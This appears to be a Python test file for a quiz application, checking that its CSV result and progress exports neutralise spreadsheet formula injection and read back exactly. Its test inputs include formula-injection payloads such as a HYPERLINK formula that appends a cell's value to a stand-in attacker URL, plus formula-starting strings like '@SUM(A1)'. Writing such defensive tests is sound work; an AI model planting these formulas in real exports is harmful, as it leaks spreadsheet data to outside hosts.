"""CSV exports never carry a live formula, and kdquiz's own CSV files read back exactly."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from store_support import FakeClock, open_store

from kdquiz.cli import main
from kdquiz.core.progress_io import export_progress, import_progress
from kdquiz.core.spreadsheet import FORMULA_STARTS, restored_cell, safe_cell
from kdquiz.core.store import GameRecord, ProgressStore, store_path

names = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "'=1",
            "''",
            "'",
            "=",
            "Min-ji",
        ]
    ),
)


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)


@given(names)
def test_a_safe_cell_is_inert_and_restores_exactly(name):
    cell = safe_cell(name)
    assert is_inert(cell) and restored_cell(cell) == name
    assert safe_cell(5) == 5 and safe_cell(-5) == -5  # numbers are numbers


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(players=st.lists(names, min_size=1, max_size=3), deck=names)
def test_results_csv_has_no_live_formula(tmp_path_factory, capsys, players, deck):
    data = tmp_path_factory.mktemp("results")
    when = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
    store = ProgressStore(store_path(data), clock=lambda: when, backup=False)
    for player in players:
        store.save_game_result(
            GameRecord(
                (deck or "d",),
                "classic",
                player,
                when,
                when,
                10,
                1,
                1,
                1,
                (((deck or "d", "=card", ""), True),),
            )
        )
    store.close()
    capsys.readouterr()
    assert main(["results", "--data-dir", str(data)]) == 0
    rows = cells_of(capsys.readouterr().out)
    assert all(is_inert(cell) for row in rows for cell in row)
    assert [restored_cell(row[0]) for row in rows[1:]] == players


def test_progress_csv_neutralises_answers_and_reads_them_back(tmp_path):
    clock = FakeClock()
    store = open_store(tmp_path, clock)
    answer = '=HYPERLINK("http://evil.example","x")'
    store.log_answer(
        ("-deck", "@card", ""),
        mode="practice",
        rating=3,
        correct=True,
        response_ms=100,
        when=clock(),
        answer_text=answer,
    )
    out = io.StringIO()
    export_progress(store, out, "csv")
    assert all(is_inert(cell) for row in cells_of(out.getvalue()) for cell in row)
    path = tmp_path / "p.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    again = open_store(tmp_path, clock, "again.sqlite3")
    import_progress(again, path, "csv")
    (entry,) = again.log_entries()
    assert entry.answer == answer and entry.key == ("-deck", "@card", "")
